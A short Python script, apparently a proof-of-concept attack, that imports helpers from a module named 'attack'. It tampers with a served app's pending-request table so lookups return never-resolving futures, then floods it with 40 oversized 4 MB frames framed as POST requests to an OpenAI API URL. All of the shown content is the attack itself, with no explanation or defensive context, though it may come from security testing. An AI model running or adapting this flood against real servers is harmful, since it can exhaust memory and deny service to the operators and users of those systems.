from concurrent.futures import Future

from attack import frame, host, write
from honest import app as app


class Anything(dict):
    def pop(self, number):
        return Future()


if serving := host():
    serving._asked = Anything()
    header = {"method": "POST", "url": "https://api.openai.com/v1/chat/completions", "headers": [], "timeout": 1}
    for number in range(40):
        write(frame({"ask": number, **header, "blocks": False}, bytes(4_000_000)))
